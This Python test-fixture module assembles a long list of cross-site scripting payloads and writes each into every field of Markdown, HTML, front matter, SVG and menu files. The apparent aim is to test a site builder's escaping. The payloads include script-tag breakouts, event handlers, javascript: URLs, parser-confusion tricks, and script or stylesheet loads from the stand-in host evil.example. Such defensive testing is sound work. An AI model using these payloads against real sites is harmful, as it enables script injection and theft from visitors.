"""Texts that would run a script if anything let them, and content that holds one of them in every place there is.

``OWN`` are ours. Those of others come from a package that ``scripts/prove-payloads`` fetches; its code is parsed, never run.
"""

from __future__ import annotations

import ast
import json
import zipfile
from collections.abc import Iterable, Iterator, Sequence
from pathlib import Path

ROOT = Path(__file__).parents[1]
#: Where the package of payloads is kept, and the name of the argument that holds one in its code.
PACKAGES, ARGUMENT = ROOT / ".tools/payloads", "payload"

#: By what they try: tags, handlers, addresses, ways out of an attribute, a comment, JSON, CSS; parsers that differ.
OWN = """\
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<script>alert(1)
<scr<script>ipt>alert(1)</scr</script>ipt>
</script><script>alert(1)</script>
</style><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</template><script>alert(1)</script>
</noscript><script>alert(1)</script>
--><script>alert(1)</script><!--
]]><script>alert(1)</script>
'><script>alert(1)</script>
"><script>alert(1)</script>
"><img src=x onerror=alert(1)>
' onmouseover='alert(1)
" autofocus onfocus="alert(1)
` onmouseover=`alert(1)
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x onerror	=	alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<img src=x onerror="&#97;lert(1)">
<img srcset="x 1x" onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x">
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math href="javascript:alert(1)">x</math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>
<table><td><a><style><svg><p id="</style><img src=x onerror=alert(1)>">
<!--><img src=x onerror=alert(1)>-->
<!--!><img src=x onerror=alert(1)>
<![CDATA[><img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><img src=x onerror=alert(1)>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<base href="javascript:alert(1)//"><a href=x>x</a>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href="//evil.example/x.css">
<link rel=import href="//evil.example/x.html">
<style>@import "//evil.example/x.css";*{background:url(javascript:alert(1))}</style>
<p style="background:url(javascript:alert(1));-moz-binding:url(//evil.example)">x</p>
<a href="javascript:alert(1)">x</a>
<a href="JaVa&#10;ScRiPt:alert(1)">x</a>
<a href=" &#1;javascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="//evil.example" target="opener" ping="//evil.example">x</a>
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<input type=image src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<isindex action="javascript:alert(1)" type=submit>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster="javascript:alert(1)"></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<frameset onload=alert(1)>
<x-a onclick=alert(1) tabindex=1 id=x>x</x-a>
<div popover id=x onbeforetoggle=alert(1)>x</div>
<q cite="javascript:alert(1)">x</q>
<a id=document name=cookie href=x>x</a><img name=body>
<portal src="javascript:alert(1)"></portal>
<template shadowrootmode=open><script>alert(1)</script></template>
[x](javascript:alert(1))
[x](java&#115;cript:alert(1))
[x](<javascript:alert(1)> "onmouseover=alert(1)")
![x](x"onerror="alert(1))
![x" onerror="alert(1)](x)
[x](data:text/html,<script>alert(1)</script>)
[x]: javascript:alert(1)
<javascript:alert(1)>
# x {: onclick="alert(1)"}
{: onclick="alert(1)" style="x:expression(alert(1))"}
`<script>alert(1)</script>`
```<script>alert(1)</script>
{% raw %}<script>alert(1)</script>{% endraw %}
{{ "<script>alert(1)</script>" }}
{{constructor.constructor('alert(1)')()}}
${alert(1)}
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
javascript:alert(1)
//evil.example
/\\evil.example
\u2028alert(1)\u2029
\u202e<script>alert(1)</script>
\ufeff<script>alert(1)</script>
""".strip("\n").split("\n")


def of_others() -> list[str]:
    """Every payload in the packages that were fetched, once, in order; none when there is none."""
    found: dict[str, None] = {}
    for package in sorted(PACKAGES.glob("*.whl")):
        with zipfile.ZipFile(package) as files:
            for name in sorted(files.namelist()):
                if name.endswith(".py"):
                    found |= dict.fromkeys(_arguments(files.read(name)))
    return list(found)


def _arguments(code: bytes) -> Iterator[str]:
    for node in ast.walk(ast.parse(code)):
        for one in node.keywords if isinstance(node, ast.Call) else ():
            if one.arg == ARGUMENT and isinstance(one.value, ast.Constant) and isinstance(one.value.value, str):
                yield one.value.value


# -- content that holds them ------------------------------------------------------------------------------------------


def content(payloads: Sequence[str]) -> dict[str, str]:
    """A folder in which each payload stands in every place: files by their paths."""
    files = {"index.md": "---\ntitle: Home\n---\nText.\n", "_data/menu.yml": menus(payloads)}
    for number, payload in enumerate(map(_readable, payloads)):
        files |= {
            f"text/{number}.md": as_markdown(payload),
            f"html/{number}.html": as_html(payload),
            f"_phases/{number}.md": as_front_matter(payload, number),
            f"_posts/2020-01-{number % 28 + 1:02}-{number}.md": as_front_matter(payload, number),
            f"img/{number}.svg": as_drawing(payload),
        }
    return files


def _readable(payload: str) -> str:
    """Without what makes any file unreadable."""
    return payload.replace("\0", "").encode("utf-8", "replace").decode()


def as_markdown(payload: str) -> str:
    """In every place of a text."""
    line = " ".join(payload.split())
    return f"""\
---
title: Text
---
{payload}

Text {line} text

# {line}

- {line}
> {line}

[x]({line}) [x](<{line}>) [x](/x "{line}") [{line}](/x) ![{line}](/x.png "{line}") <{line}> **{line}** `{line}`

| {line} | x |
|---|---|
| x | {line} |

x[^1] [x][{line}]

[^1]: {line}
[{line}]: {line}

```{line}
{payload}
```

{{: title="{line}" {line} }}
"""


def as_html(payload: str) -> str:
    """In every place of a page that is written as HTML."""
    quoted, single = payload.replace('"', "&quot;"), payload.replace("'", "&#39;")
    return f"""\
---
title: HTML
---
<p>{payload}</p>
<a href="{quoted}" title='{single}'>x</a> <a href={payload}>x</a> <img src="{quoted}" alt="{quoted}"> <img alt='{single}'>
<p id="{quoted}" class="{quoted}" aria-label="{quoted}" lang="{quoted}" data-x="{quoted}" style="{quoted}">x</p>
<div title="{payload}"></div><div title='{payload}'></div><!-- {payload} -->
<video poster="{quoted}"><source src="{quoted}"></video><table><tr><td>{payload}</table><h2>{payload}</h2>
<pre><code class="language-{quoted}">{payload}</code></pre><details><summary>{payload}</summary>{payload}</details>
{payload}
"""


def as_front_matter(payload: str, number: int) -> str:
    """In every field that is a text, and in those that are lists and mappings of them."""
    fields: dict[str, object] = {
        "title": payload, "description": payload, "subtitle": payload, "excerpt": payload, "lang": payload, "id": payload,
        "layout": payload, "sidebar": payload, "license": payload, "team": payload, "decision": payload, "kind": payload,
        "label": payload, "short": payload, "plural": payload, "badge": payload, "objectives": [payload, payload],
        "labels": {"short": payload, "singular": payload, "plural": payload, "badge": payload}, "duration": payload,
        "documentation_url": payload, "aliases": [payload], "tags": [payload], "categories": [payload], "authors": [payload],
        "image": {"path": payload, "alt": payload}, "breadcrumbs": [{"title": payload, "link": payload}],
        "redirect_from": [payload], "updated": payload, "x": {"y": [payload, {"z": payload}]}, "position": number,
    }  # fmt: skip
    return f"---\n{json.dumps(fields)}\n---\nText.\n"


def as_drawing(payload: str) -> str:
    """In an SVG that is opened by itself."""
    return f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{payload}</svg>\n'


def menus(payloads: Iterable[str]) -> str:
    """A menu, of which each payload is a label, an address, and the label of what stands beneath."""
    items = [{"label": one, "url": one, "children": [{"label": one, "url": "/"}]} for one in map(_readable, payloads)]
    return json.dumps({"nav": items})
